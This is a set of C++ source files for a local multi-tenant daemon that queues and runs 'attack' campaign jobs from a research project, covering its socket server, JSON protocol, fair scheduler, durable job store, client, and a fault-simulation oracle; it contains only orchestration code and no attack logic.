  /// to CampaignService::drain() (true) or stop_hard() (false).
  bool shutdown_requested() const { return shutdown_requested_.load(); }
  bool shutdown_drain() const { return shutdown_drain_.load(); }

  /// Connections accepted over the server's lifetime (observability).
  size_t connections_accepted() const { return connections_accepted_.load(); }

 private:
  struct Conn {
    std::string in;
    std::string out;
    bool closing = false;  // flush out, then close
  };

  void reactor();
  /// Dispatches one request line; returns the response line (no newline).
  std::string handle_line(std::string_view line);
  void close_all();

  CampaignService& service_;
  const ServerOptions options_;

  int unix_fd_ = -1;
  int tcp_fd_ = -1;
  int wake_read_ = -1;   // self-pipe: stop() wakes the poll loop
  int wake_write_ = -1;
  u16 tcp_port_ = 0;

  std::map<int, Conn> conns_;
  std::thread reactor_;
  std::atomic<bool> running_{false};
  std::atomic<bool> stop_requested_{false};
  std::atomic<bool> shutdown_requested_{false};
  std::atomic<bool> shutdown_drain_{true};
  std::atomic<size_t> connections_accepted_{0};
};

}  // namespace sbm::service
