#include "service/server.h"

#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <poll.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <cstdio>
#include <cstring>
#include <vector>

#include "common/json.h"
#include "service/protocol.h"

namespace sbm::service {

namespace {

bool set_nonblocking(int fd) {
  const int flags = ::fcntl(fd, F_GETFL, 0);
  return flags >= 0 && ::fcntl(fd, F_SETFL, flags | O_NONBLOCK) == 0;
}

}  // namespace

SocketServer::SocketServer(CampaignService& service, ServerOptions options)
    : service_(service), options_(std::move(options)) {}

SocketServer::~SocketServer() { stop(); }

bool SocketServer::start(std::string* error) {
  auto fail = [&](const char* what) {
    if (error != nullptr) *error = std::string(what) + ": " + std::strerror(errno);
    close_all();
    return false;
  };

  int wake[2];
  if (::pipe(wake) != 0) return fail("pipe");
  wake_read_ = wake[0];
  wake_write_ = wake[1];
  set_nonblocking(wake_read_);

  if (!options_.unix_path.empty()) {
    sockaddr_un addr{};
    if (options_.unix_path.size() >= sizeof(addr.sun_path)) {
      if (error != nullptr) *error = "unix path too long";
      close_all();
      return false;
    }
    unix_fd_ = ::socket(AF_UNIX, SOCK_STREAM, 0);
    if (unix_fd_ < 0) return fail("socket(unix)");
    addr.sun_family = AF_UNIX;
    std::strncpy(addr.sun_path, options_.unix_path.c_str(), sizeof(addr.sun_path) - 1);
    ::unlink(options_.unix_path.c_str());  // replace a stale socket file
    if (::bind(unix_fd_, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
      return fail("bind(unix)");
    }
    if (::listen(unix_fd_, 512) != 0) return fail("listen(unix)");
    set_nonblocking(unix_fd_);
  }

  if (options_.tcp) {
    tcp_fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
    if (tcp_fd_ < 0) return fail("socket(tcp)");
    const int one = 1;
    ::setsockopt(tcp_fd_, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
    sockaddr_in addr{};
    addr.sin_family = AF_INET;
    addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);  // local clients only
    addr.sin_port = htons(options_.tcp_port);
    if (::bind(tcp_fd_, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
      return fail("bind(tcp)");
    }
    if (::listen(tcp_fd_, 512) != 0) return fail("listen(tcp)");
    set_nonblocking(tcp_fd_);
    sockaddr_in bound{};
    socklen_t len = sizeof(bound);
    ::getsockname(tcp_fd_, reinterpret_cast<sockaddr*>(&bound), &len);
    tcp_port_ = ntohs(bound.sin_port);
  }

  if (unix_fd_ < 0 && tcp_fd_ < 0) {
    if (error != nullptr) *error = "no listener configured";
    close_all();
    return false;
  }

  running_.store(true);
  reactor_ = std::thread([this] { reactor(); });
  return true;
}

void SocketServer::wait() {
  if (reactor_.joinable()) reactor_.join();
}

void SocketServer::stop() {
  stop_requested_.store(true);
  if (wake_write_ >= 0) {
    const char b = 'x';
    [[maybe_unused]] const ssize_t n = ::write(wake_write_, &b, 1);
  }
  wait();
  close_all();
}

void SocketServer::close_all() {
  for (auto& [fd, conn] : conns_) ::close(fd);
  conns_.clear();
  for (int* fd : {&unix_fd_, &tcp_fd_, &wake_read_, &wake_write_}) {
    if (*fd >= 0) {
      ::close(*fd);
      *fd = -1;
    }
  }
  if (!options_.unix_path.empty()) ::unlink(options_.unix_path.c_str());
}

std::string SocketServer::handle_line(std::string_view line) {
  std::string parse_error;
  const std::optional<Request> req = parse_request(line, &parse_error);
  if (!req) return error_response(400, parse_error, std::string());

  JsonWriter w;
  switch (req->verb) {
    case Verb::kSubmit: {
      const CampaignService::Submitted s = service_.submit(req->spec);
      if (!s.ok) {
        return error_response(Verb::kSubmit, s.code, s.error, req->request_id, s.retry_after_ms);
      }
      begin_response(w, Verb::kSubmit, true, req->request_id);
      w.field("id", s.id).field("queue_depth", s.queue_depth);
      w.end_object();
      return w.str();
    }
    case Verb::kStatus: {
      const std::optional<JobView> view = service_.status(req->job_id);
      if (!view) return error_response(Verb::kStatus, 404, "unknown_job", req->request_id);
      begin_response(w, Verb::kStatus, true, req->request_id);
      w.key("job");
      write_job_view(w, *view, /*include_metrics=*/true);
      w.end_object();
      return w.str();
    }
    case Verb::kResult: {
      if (!service_.status(req->job_id)) {
        return error_response(Verb::kResult, 404, "unknown_job", req->request_id);
      }
      const std::optional<std::string> report = service_.result_json(req->job_id);
      if (!report) return error_response(Verb::kResult, 409, "not_finished", req->request_id);
      begin_response(w, Verb::kResult, true, req->request_id);
      w.key("report").raw_value(*report);
      w.end_object();
      return w.str();
    }
    case Verb::kCancel: {
      const std::optional<JobState> state = service_.cancel(req->job_id);
      if (!state) return error_response(Verb::kCancel, 404, "unknown_job", req->request_id);
      if (*state == JobState::kDone || *state == JobState::kFailed ||
          *state == JobState::kDeadline) {
        return error_response(Verb::kCancel, 409, "already_finished", req->request_id);
      }
      begin_response(w, Verb::kCancel, true, req->request_id);
      w.field("state", std::string(to_string(*state)));
      w.end_object();
      return w.str();
    }
    case Verb::kList: {
      const std::vector<JobView> views = service_.list(req->tenant);
      begin_response(w, Verb::kList, true, req->request_id);
      w.field("count", views.size());
      w.key("jobs");
      w.begin_array();
      for (const JobView& v : views) write_job_view(w, v, /*include_metrics=*/false);
      w.end_array();
      w.end_object();
      return w.str();
    }
    case Verb::kMetrics: {
      begin_response(w, Verb::kMetrics, true, req->request_id);
      w.key("metrics").raw_value(service_.metrics_json());
      w.end_object();
      return w.str();
    }
    case Verb::kShutdown: {
      shutdown_drain_.store(req->drain);
      shutdown_requested_.store(true);
      begin_response(w, Verb::kShutdown, true, req->request_id);
      w.field("drain", req->drain);
      w.end_object();
      return w.str();
    }
  }
  return error_response(400, "unhandled_verb", req->request_id);
}

void SocketServer::reactor() {
  std::vector<pollfd> fds;
  char buf[4096];

  auto flush = [&](int fd, Conn& conn) {
    while (!conn.out.empty()) {
      const ssize_t n = ::send(fd, conn.out.data(), conn.out.size(), MSG_NOSIGNAL);
      if (n > 0) {
        conn.out.erase(0, static_cast<size_t>(n));
        continue;
      }
      if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) return true;
      return false;  // peer gone
    }
    return true;
  };

  for (;;) {
    // Exit once asked — but after a shutdown verb, only when every response
    // byte (the shutdown ack in particular) has been flushed.
    if (stop_requested_.load()) break;
    if (shutdown_requested_.load()) {
      bool pending = false;
      for (auto& [fd, conn] : conns_) pending = pending || !conn.out.empty();
      if (!pending) break;
    }

    fds.clear();
    if (unix_fd_ >= 0) fds.push_back({unix_fd_, POLLIN, 0});
    if (tcp_fd_ >= 0) fds.push_back({tcp_fd_, POLLIN, 0});
    fds.push_back({wake_read_, POLLIN, 0});
    const size_t first_conn = fds.size();
    for (auto& [fd, conn] : conns_) {
      short events = POLLIN;
      if (!conn.out.empty()) events |= POLLOUT;
      fds.push_back({fd, events, 0});
    }

    const int rc = ::poll(fds.data(), fds.size(), 250);
    if (rc < 0 && errno != EINTR) break;
    if (rc <= 0) continue;

    size_t idx = 0;
    auto accept_from = [&](int listen_fd) {
      for (;;) {
        const int cfd = ::accept(listen_fd, nullptr, nullptr);
        if (cfd < 0) return;  // EAGAIN or transient (EMFILE): try next round
        set_nonblocking(cfd);
        conns_.emplace(cfd, Conn{});
        connections_accepted_.fetch_add(1);
      }
    };
    if (unix_fd_ >= 0) {
      if ((fds[idx].revents & POLLIN) != 0) accept_from(unix_fd_);
      ++idx;
    }
    if (tcp_fd_ >= 0) {
      if ((fds[idx].revents & POLLIN) != 0) accept_from(tcp_fd_);
      ++idx;
    }
    if ((fds[idx].revents & POLLIN) != 0) {
      while (::read(wake_read_, buf, sizeof(buf)) > 0) {
      }
    }
    ++idx;

    std::vector<int> dead;
    for (size_t i = first_conn; i < fds.size(); ++i) {
      const int fd = fds[i].fd;
      const short revents = fds[i].revents;
      const auto it = conns_.find(fd);
      if (it == conns_.end()) continue;
      Conn& conn = it->second;
      bool alive = true;

      if ((revents & (POLLIN | POLLHUP | POLLERR)) != 0) {
        for (;;) {
          const ssize_t n = ::recv(fd, buf, sizeof(buf), 0);
          if (n > 0) {
            conn.in.append(buf, static_cast<size_t>(n));
            continue;
          }
          if (n < 0 && (errno == EAGAIN || errno == EWOULDBLOCK)) break;
          alive = false;  // EOF or hard error
          break;
        }
        size_t start = 0;
        for (;;) {
          const size_t nl = conn.in.find('\n', start);
          if (nl == std::string::npos) break;
          std::string_view line(conn.in.data() + start, nl - start);
          if (!line.empty() && line.back() == '\r') line.remove_suffix(1);
          start = nl + 1;
          if (line.empty()) continue;
          if (line.size() > options_.max_line) {
            conn.out += error_response(400, "line_too_long", std::string());
            conn.out += '\n';
            conn.closing = true;
            break;
          }
          conn.out += handle_line(line);
          conn.out += '\n';
        }
        conn.in.erase(0, start);
        if (conn.in.size() > options_.max_line) {
          conn.out += error_response(400, "line_too_long", std::string());
          conn.out += '\n';
          conn.closing = true;
        }
      }

      if (alive) alive = flush(fd, conn);
      if (!alive || (conn.closing && conn.out.empty())) dead.push_back(fd);
    }
    for (const int fd : dead) {
      ::close(fd);
      conns_.erase(fd);
    }
  }

  for (auto& [fd, conn] : conns_) ::close(fd);
  conns_.clear();
  running_.store(false);
}

}  // namespace sbm::service
