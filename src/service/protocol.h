// Wire protocol of the campaign service (DESIGN.md §4h): newline-delimited
// JSON over a local stream socket.  Every request is one line holding one
// JSON object with a "verb" member; every response is one line holding one
// JSON object with an "ok" member.  Responses echo the request's optional
// "request_id" verbatim so clients may pipeline.
//
//   {"verb":"submit","job":{"tenant":"t0","options":{"trials":4,"seed":9}}}
//   {"verb":"status","id":"j-000001"}
//   {"verb":"result","id":"j-000001"}
//   {"verb":"cancel","id":"j-000001"}
//   {"verb":"list","tenant":"t0"}
//   {"verb":"metrics"}
//   {"verb":"shutdown","drain":true}
//
// Error responses carry an HTTP-flavoured "code" (400 malformed, 404 unknown
// job, 409 wrong state, 429 queue full — with a "retry_after_ms" hint —
// 503 shutting down) so load generators can implement honest backoff.
#pragma once

#include <optional>
#include <string>
#include <string_view>

#include "campaign/campaign.h"

namespace sbm {
class JsonWriter;
struct JsonValue;
}

namespace sbm::service {

/// How a job's trials execute.  kAttack runs the real Section VI pipeline
/// per trial; kSynthetic runs a deterministic stand-in trial (optionally
/// sleeping synthetic_trial_ms) through the identical orchestration,
/// checkpoint and scheduling path — the calibration workload load tests use
/// so a thousand submitters don't need a thousand full attacks.
enum class JobMode : u8 { kAttack, kSynthetic };
std::string_view to_string(JobMode mode);
std::optional<JobMode> job_mode_from_string(std::string_view s);

/// Job lifecycle: queued -> running -> done | failed | cancelled |
/// deadline_exceeded.  A daemon restart maps queued/running jobs back to
/// queued (resuming from their checkpoints); the terminal states are final.
/// kDeadline is the distinct terminal state of a job cancelled for
/// exceeding its CampaignOptions::deadline_seconds wall-clock budget.
enum class JobState : u8 { kQueued, kRunning, kDone, kFailed, kCancelled, kDeadline };
std::string_view to_string(JobState state);
std::optional<JobState> job_state_from_string(std::string_view s);

/// Everything a tenant specifies when submitting a job.
struct JobSpec {
  std::string tenant = "default";
  /// Campaign knobs; the service overrides the process-local fields
  /// (checkpoint_path, resume, verbose, threads) — the shared pool and the
  /// per-job checkpoint file are the daemon's business, not the tenant's.
  campaign::CampaignOptions options;
  JobMode mode = JobMode::kAttack;
  /// Per-trial sleep for synthetic jobs, to model slow boards.
  u32 synthetic_trial_ms = 0;
  /// Weighted-fair-queuing weight for this tenant (updates the tenant's
  /// weight; <= 0 keeps the current one).
  double weight = 0;
};

void write_job_spec(JsonWriter& w, const JobSpec& spec);
std::optional<JobSpec> job_spec_from_json(const JsonValue& v);

enum class Verb : u8 { kSubmit, kStatus, kResult, kCancel, kList, kMetrics, kShutdown };
std::string_view to_string(Verb verb);
std::optional<Verb> verb_from_string(std::string_view s);

struct Request {
  Verb verb = Verb::kStatus;
  std::string request_id;  // echoed in the response when non-empty
  std::string job_id;      // status | result | cancel
  std::string tenant;      // list filter; empty = all tenants
  JobSpec spec;            // submit
  bool drain = true;       // shutdown: finish the queue first?
};

/// Parses one request line; nullopt + *error on malformed input.
std::optional<Request> parse_request(std::string_view line, std::string* error);
/// Renders a request as one line (no trailing newline).
std::string request_to_json(const Request& req);

/// Opens a response object — {"ok":...,"verb":...[,"request_id":...] — and
/// leaves it open for verb-specific members; close with w.end_object().
void begin_response(JsonWriter& w, Verb verb, bool ok, const std::string& request_id);
/// Complete error line.  retry_after_ms != 0 adds the backoff hint (429s).
std::string error_response(Verb verb, int code, std::string_view reason,
                           const std::string& request_id, size_t retry_after_ms = 0);
/// Error line for input so malformed the verb is unknown.
std::string error_response(int code, std::string_view reason, const std::string& request_id);

}  // namespace sbm::service
