// The campaign daemon's core: a persistent, multi-tenant attack-job service
// (DESIGN.md §4h).  Transport-free — the socket server (service/server.h)
// and the tests drive this same object.
//
// Lifecycle of a job:
//
//   submit ──► queued ──► running ──► done
//                │           │   └──► failed     (pipeline threw)
//                └───────────┴──────► cancelled  (tenant asked)
//
// plus the restart edge: a daemon killed at any instant reloads its job
// store on the next start, maps queued/running jobs back to queued, and
// re-runs them with campaign resume pointed at their per-job checkpoint —
// trials finished before the kill are answered from disk, so the final
// fingerprint is identical to an uninterrupted run (enforced by
// tests/test_service.cpp).
//
// Execution: one shared runtime::ThreadPool serves every job's trial/scan
// fan-out; `workers` job slots pull from the per-tenant weighted fair
// scheduler, so one giant campaign cannot starve other tenants and the
// daemon's concurrency is bounded regardless of how many jobs are queued.
#pragma once

#include <atomic>
#include <map>
#include <memory>
#include <mutex>
#include <optional>
#include <string>
#include <thread>
#include <vector>

#include "campaign/campaign.h"
#include "service/job_store.h"
#include "service/scheduler.h"

namespace sbm::runtime {
class ThreadPool;
}

namespace sbm::service {

struct ServiceOptions {
  /// Job store directory (created if missing).  Required.
  std::string store_dir;
  /// Concurrent job slots.
  size_t workers = 1;
  /// Threads in the shared trial/scan pool; 0 = hardware concurrency.
  unsigned pool_threads = 0;
  SchedulerLimits limits{};
  /// Reload the store and reschedule in-flight jobs on construction.
  bool resume_on_start = true;
  bool verbose = false;
};

/// Point-in-time snapshot of one job, safe to hold without locks.
struct JobView {
  std::string id;
  std::string tenant;
  JobMode mode = JobMode::kAttack;
  JobState state = JobState::kQueued;
  u64 seq = 0;
  size_t trials_total = 0;
  size_t trials_done = 0;
  size_t resumed_trials = 0;
  size_t cancelled_trials = 0;
  bool all_expected = false;
  u64 fingerprint = 0;
  std::string failure;
  /// The canonical per-job metrics block (campaign report "metrics" schema):
  /// live running totals while the job executes, the final block once done.
  std::string metrics_json;
};

void write_job_view(JsonWriter& w, const JobView& view, bool include_metrics);

class CampaignService {
 public:
  explicit CampaignService(ServiceOptions options);
  /// Equivalent to stop_hard(): in-flight jobs stay resumable in the store.
  ~CampaignService();

  CampaignService(const CampaignService&) = delete;
  CampaignService& operator=(const CampaignService&) = delete;

  struct Submitted {
    bool ok = false;
    std::string id;          // valid when ok
    int code = 0;            // 429 / 503 / 500 when !ok
    std::string error;
    size_t retry_after_ms = 0;
    size_t queue_depth = 0;  // scheduler backlog after the submit
  };
  Submitted submit(JobSpec spec);

  std::optional<JobView> status(const std::string& id) const;
  /// Full campaign report JSON once the job produced one (done, cancelled,
  /// or failed-with-partial-report); nullopt otherwise.
  std::optional<std::string> result_json(const std::string& id) const;
  /// Snapshot of every job (filtered by tenant when non-empty), seq order.
  std::vector<JobView> list(const std::string& tenant = std::string()) const;
  /// Cancels: a queued job finalizes immediately (kCancelled); a running
  /// one stops after its in-flight trials (state transitions when the
  /// orchestrator notices).  Returns the state observed after the request,
  /// nullopt for unknown ids.
  std::optional<JobState> cancel(const std::string& id);
  /// Process-wide obs metrics snapshot — the same JSON the CLI's
  /// --metrics-out flag writes.
  std::string metrics_json() const;

  struct Stats {
    size_t submitted = 0;
    size_t rejected = 0;
    size_t completed = 0;
    size_t failed = 0;
    size_t cancelled = 0;
    /// Jobs terminated for exceeding their wall-clock deadline.
    size_t deadline = 0;
    size_t resumed_jobs = 0;   // jobs rescheduled from the store on start
    size_t corrupt_records = 0;
    size_t queued = 0;
    size_t running = 0;
  };
  Stats stats() const;

  /// Graceful shutdown: stop intake, finish every queued job, join workers.
  void drain();
  /// Crash-flavoured shutdown: stop intake, ask running jobs to stop after
  /// their in-flight trials, join workers.  Interrupted jobs are persisted
  /// as queued and resume on the next start.
  void stop_hard();

  bool accepting() const { return scheduler_.accepting(); }
  const JobStore& store() const { return store_; }
  FairScheduler& scheduler() { return scheduler_; }

 private:
  struct Job {
    std::mutex mu;
    JobRecord record;
    /// Running aggregate of freshly-finished trials (streamed metrics).
    campaign::CampaignReport live;
    /// Final metrics block, set at completion or recovered from the stored
    /// report on restart; empty while the job is live.
    std::string final_metrics_json;
    std::atomic<bool> cancel{false};       // orchestrator stop flag
    std::atomic<bool> user_cancel{false};  // tenant cancel vs daemon stop
    /// The wall-clock deadline fired: the run was stopped via `cancel` and
    /// finalizes as kDeadline instead of kCancelled.
    std::atomic<bool> deadline_exceeded{false};
  };

  std::shared_ptr<Job> find(const std::string& id) const;
  JobView view_of(Job& job) const;
  void worker_loop();
  void run_job(const std::shared_ptr<Job>& job);
  void finalize(Job& job, JobState state, const campaign::CampaignReport& report,
                const std::string& failure);
  void refresh_queue_gauge();
  void join_workers();

  const ServiceOptions options_;
  JobStore store_;
  FairScheduler scheduler_;
  std::unique_ptr<runtime::ThreadPool> pool_;

  mutable std::mutex mu_;
  std::map<std::string, std::shared_ptr<Job>> jobs_;
  u64 next_seq_ = 1;
  Stats stats_;
  bool stopping_ = false;
  bool joined_ = false;

  std::vector<std::thread> workers_;
};

}  // namespace sbm::service
