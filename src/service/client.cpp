#include "service/client.h"

#include <errno.h>
#include <netinet/in.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#include <chrono>
#include <cstring>
#include <thread>
#include <utility>

namespace sbm::service {

namespace {

void set_error(std::string* error, const char* what) {
  if (error != nullptr) *error = std::string(what) + ": " + std::strerror(errno);
}

}  // namespace

Client::~Client() { close(); }

Client::Client(Client&& other) noexcept : fd_(other.fd_), buf_(std::move(other.buf_)) {
  other.fd_ = -1;
}

Client& Client::operator=(Client&& other) noexcept {
  if (this != &other) {
    close();
    fd_ = std::exchange(other.fd_, -1);
    buf_ = std::move(other.buf_);
  }
  return *this;
}

void Client::close() {
  if (fd_ >= 0) {
    ::close(fd_);
    fd_ = -1;
  }
  buf_.clear();
}

bool Client::connect_unix(const std::string& path, std::string* error) {
  close();
  sockaddr_un addr{};
  if (path.size() >= sizeof(addr.sun_path)) {
    if (error != nullptr) *error = "unix path too long";
    return false;
  }
  fd_ = ::socket(AF_UNIX, SOCK_STREAM, 0);
  if (fd_ < 0) {
    set_error(error, "socket");
    return false;
  }
  addr.sun_family = AF_UNIX;
  std::strncpy(addr.sun_path, path.c_str(), sizeof(addr.sun_path) - 1);
  if (::connect(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    set_error(error, "connect");
    close();
    return false;
  }
  return true;
}

bool Client::connect_tcp(u16 port, std::string* error) {
  close();
  fd_ = ::socket(AF_INET, SOCK_STREAM, 0);
  if (fd_ < 0) {
    set_error(error, "socket");
    return false;
  }
  sockaddr_in addr{};
  addr.sin_family = AF_INET;
  addr.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  addr.sin_port = htons(port);
  if (::connect(fd_, reinterpret_cast<sockaddr*>(&addr), sizeof(addr)) != 0) {
    set_error(error, "connect");
    close();
    return false;
  }
  return true;
}

bool Client::send_line(const std::string& line) {
  std::string framed = line;
  framed += '\n';
  size_t off = 0;
  while (off < framed.size()) {
    const ssize_t n = ::send(fd_, framed.data() + off, framed.size() - off, MSG_NOSIGNAL);
    if (n <= 0) {
      if (n < 0 && errno == EINTR) continue;
      return false;
    }
    off += static_cast<size_t>(n);
  }
  return true;
}

std::optional<std::string> Client::read_line() {
  char chunk[4096];
  for (;;) {
    const size_t nl = buf_.find('\n');
    if (nl != std::string::npos) {
      std::string line = buf_.substr(0, nl);
      buf_.erase(0, nl + 1);
      if (!line.empty() && line.back() == '\r') line.pop_back();
      return line;
    }
    const ssize_t n = ::recv(fd_, chunk, sizeof(chunk), 0);
    if (n > 0) {
      buf_.append(chunk, static_cast<size_t>(n));
      continue;
    }
    if (n < 0 && errno == EINTR) continue;
    return std::nullopt;  // EOF or hard error mid-line
  }
}

std::optional<JsonValue> Client::request_raw(const std::string& line) {
  if (fd_ < 0 || !send_line(line)) {
    close();
    return std::nullopt;
  }
  const std::optional<std::string> response = read_line();
  if (!response) {
    close();
    return std::nullopt;
  }
  return parse_json(*response);
}

std::optional<JsonValue> Client::request(const Request& req) {
  return request_raw(request_to_json(req));
}

std::optional<std::string> Client::submit(const JobSpec& spec, int* code, std::string* error,
                                          size_t* retry_after_ms) {
  Request req;
  req.verb = Verb::kSubmit;
  req.spec = spec;
  const std::optional<JsonValue> resp = request(req);
  if (!resp || !resp->is_object()) {
    if (code != nullptr) *code = 0;
    if (error != nullptr) *error = "transport";
    return std::nullopt;
  }
  if (const JsonValue* ok = resp->find("ok"); ok != nullptr && ok->as_bool()) {
    const JsonValue* id = resp->find("id");
    if (id != nullptr) return id->as_string();
  }
  if (code != nullptr) {
    const JsonValue* c = resp->find("code");
    *code = c == nullptr ? 0 : static_cast<int>(c->as_u64());
  }
  if (error != nullptr) {
    const JsonValue* e = resp->find("error");
    *error = e == nullptr ? "" : e->as_string();
  }
  if (retry_after_ms != nullptr) {
    const JsonValue* r = resp->find("retry_after_ms");
    *retry_after_ms = r == nullptr ? 0 : static_cast<size_t>(r->as_u64());
  }
  return std::nullopt;
}

std::optional<std::string> Client::wait_done(const std::string& id, size_t poll_ms) {
  Request req;
  req.verb = Verb::kStatus;
  req.job_id = id;
  for (;;) {
    const std::optional<JsonValue> resp = request(req);
    if (!resp || !resp->is_object()) return std::nullopt;
    const JsonValue* ok = resp->find("ok");
    if (ok == nullptr || !ok->as_bool()) return std::nullopt;
    const JsonValue* job = resp->find("job");
    const JsonValue* state = job == nullptr ? nullptr : job->find("state");
    if (state == nullptr) return std::nullopt;
    const std::string& s = state->as_string();
    if (s == "done" || s == "failed" || s == "cancelled") return s;
    std::this_thread::sleep_for(std::chrono::milliseconds(poll_ms));
  }
}

}  // namespace sbm::service
