// Per-tenant weighted fair queuing with bounded queues and backpressure
// (DESIGN.md §4h).
//
// Start-time fair queuing over tenants: each queued job gets a virtual
// finish tag `max(V, tenant.last_tag) + cost / weight` at push time, where V
// is the scheduler's virtual clock (advanced to the tag of each job it
// dispatches); pop_wait() always dispatches the job with the smallest head
// tag (ties broken by tenant name, then submission order — fully
// deterministic).  A tenant with weight 2 therefore accrues tags at half
// the rate and receives twice the throughput of a weight-1 tenant under
// saturation, while an idle tenant's first job starts at V (no banked
// credit for past idleness).
//
// Bounded queues: a tenant over its per-tenant cap — or the scheduler over
// its global cap — gets a 429-style Rejection carrying a retry_after_ms
// hint derived from an EWMA of recent job durations and the current
// backlog, so well-behaved clients can back off honestly instead of
// hammering.
//
// Shutdown comes in two flavours: drain_close() stops intake but lets
// pop_wait() hand out the backlog until empty, hard_close() stops intake
// and wakes every popper immediately (queued jobs stay in the job store for
// the next daemon start).
#pragma once

#include <condition_variable>
#include <deque>
#include <map>
#include <mutex>
#include <optional>
#include <string>

#include "common/bits.h"

namespace sbm::service {

struct SchedulerLimits {
  size_t per_tenant_capacity = 64;
  size_t total_capacity = 1024;
  /// Concurrent job slots the hint math assumes (the service's workers).
  size_t workers = 1;
};

class FairScheduler {
 public:
  explicit FairScheduler(SchedulerLimits limits);

  struct Rejection {
    int code = 429;
    const char* reason = "queue_full";
    size_t retry_after_ms = 0;
  };

  /// Enqueues job_id for `tenant`.  `cost` is the job's size proxy (the
  /// campaign's trial count); `weight` > 0 updates the tenant's WFQ weight.
  /// nullopt = accepted; a Rejection means the caller must not enqueue.
  std::optional<Rejection> push(const std::string& tenant, double weight, double cost,
                                std::string job_id);
  /// Blocks until a job can be dispatched.  nullopt once the scheduler is
  /// closed (immediately for hard_close, after the backlog drains for
  /// drain_close).
  std::optional<std::string> pop_wait();
  /// Non-blocking pop; nullopt when nothing is queued.
  std::optional<std::string> try_pop();
  /// Removes a still-queued job (cancellation).  False when not queued.
  bool erase(const std::string& job_id);

  /// Duration sample for the retry_after_ms hint (EWMA, alpha 1/4).
  void note_job_ms(double ms);
  /// The hint a rejection issued right now would carry.
  size_t retry_after_ms_hint() const;

  size_t queued() const;
  size_t queued_for(const std::string& tenant) const;
  bool accepting() const;

  void drain_close();
  void hard_close();

 private:
  struct Item {
    std::string job_id;
    double tag = 0;
  };
  struct Tenant {
    std::deque<Item> q;
    double weight = 1.0;
    double last_tag = 0;
  };

  std::optional<std::string> pop_locked();
  size_t hint_locked() const;

  const SchedulerLimits limits_;
  mutable std::mutex mu_;
  std::condition_variable ready_;
  std::map<std::string, Tenant> tenants_;
  double vclock_ = 0;
  size_t queued_ = 0;
  double ewma_job_ms_ = 0;  // 0 = no sample yet (a default is substituted)
  bool accepting_ = true;
  bool hard_closed_ = false;
};

}  // namespace sbm::service
