// Durable job store for the campaign daemon (DESIGN.md §4h).
//
// One directory holds two files per job:
//   job-<seq>.json             — the JobRecord: spec, lifecycle state, final
//                                outcome summary and (when finished) the full
//                                campaign report;
//   job-<seq>.checkpoint.json  — the PR-4 campaign checkpoint the
//                                orchestrator rewrites after every finished
//                                trial (campaign/checkpoint.h format).
//
// Every write goes through write_file_atomic (temp + fsync + rename), so a
// daemon killed at any instant leaves each file either whole-old or
// whole-new.  On restart, load_all() returns every parseable record; stale
// ".tmp" debris from an interrupted write is swept, and corrupt records are
// counted and skipped rather than taking the daemon down.  Jobs found in
// kQueued/kRunning re-enter the scheduler and resume from their checkpoint
// — the determinism contract makes the resumed campaign's fingerprint
// identical to an uninterrupted run's.
#pragma once

#include <optional>
#include <string>
#include <vector>

#include "service/protocol.h"

namespace sbm::service {

struct JobRecord {
  std::string id;  // "j-" + zero-padded seq
  u64 seq = 0;     // global submission order (also the scheduler tie-break)
  JobSpec spec;
  JobState state = JobState::kQueued;
  /// Trials finished so far (resumed + run); refreshed from the checkpoint
  /// when a restarted daemon reloads an in-flight job.
  size_t trials_done = 0;
  /// Valid once state == kDone / kCancelled.
  u64 fingerprint = 0;
  bool all_expected = false;
  size_t resumed_trials = 0;
  size_t cancelled_trials = 0;
  std::string failure;      // kFailed: what the pipeline threw
  std::string report_json;  // full CampaignReport::to_json (kDone/kCancelled)
};

std::string job_record_to_json(const JobRecord& rec);
std::optional<JobRecord> job_record_from_json(std::string_view json);

class JobStore {
 public:
  /// Creates `dir` if missing (one level).
  explicit JobStore(std::string dir);

  const std::string& dir() const { return dir_; }
  std::string job_path(const std::string& id) const;
  std::string checkpoint_path(const std::string& id) const;

  /// Atomically rewrites the job's record file.
  bool save(const JobRecord& rec) const;
  /// Deletes the job's checkpoint file (once the job is terminal).
  void remove_checkpoint(const std::string& id) const;

  struct Loaded {
    std::vector<JobRecord> jobs;  // sorted by seq
    size_t corrupt = 0;           // files present but unparseable (skipped)
  };
  /// Scans the directory; sweeps "*.tmp" debris from interrupted writes.
  Loaded load_all() const;

 private:
  std::string dir_;
};

}  // namespace sbm::service
