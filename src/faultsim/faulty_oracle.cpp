#include "faultsim/faulty_oracle.h"

#include "common/rng.h"
#include "obs/metrics.h"
#include "obs/trace.h"

namespace sbm::faultsim {

using runtime::ProbeError;
using runtime::ProbeOutcome;

namespace {

obs::Counter& injected_fault_counter() {
  static obs::Counter& c = obs::MetricsRegistry::global().counter("faultsim.injected_faults");
  return c;
}

constexpr u64 mix64(u64 z) {
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
  return z ^ (z >> 31);
}

/// Bernoulli(rate) from one u64 draw: compare against rate * 2^64.
bool chance(Rng& rng, double rate) {
  if (rate <= 0) return false;
  if (rate >= 1) return true;
  return static_cast<double>(rng.next_u64()) < rate * 18446744073709551616.0;
}

}  // namespace

FaultAction FaultyOracle::draw(size_t index) const {
  if (scripted_) return plan_.action_at(index);
  // One class draw per run, consumed in a fixed order so the fault stream is
  // a pure function of (seed, index).  Bit-flips are drawn separately in
  // apply() (they are per-bit, not per-run).
  Rng rng(mix64(profile_.seed ^ (0x9e3779b97f4a7c15ull * (index + 1))));
  if (chance(rng, profile_.death)) return {FaultAction::Kind::kKill, 0, 0, 0};
  if (chance(rng, profile_.transient_reject)) return {FaultAction::Kind::kReject, 0, 0, 0};
  if (chance(rng, profile_.timeout)) return {FaultAction::Kind::kTimeout, 0, 0, 0};
  if (chance(rng, profile_.truncate)) return {FaultAction::Kind::kTruncate, 0, 0, 0};
  return {};
}

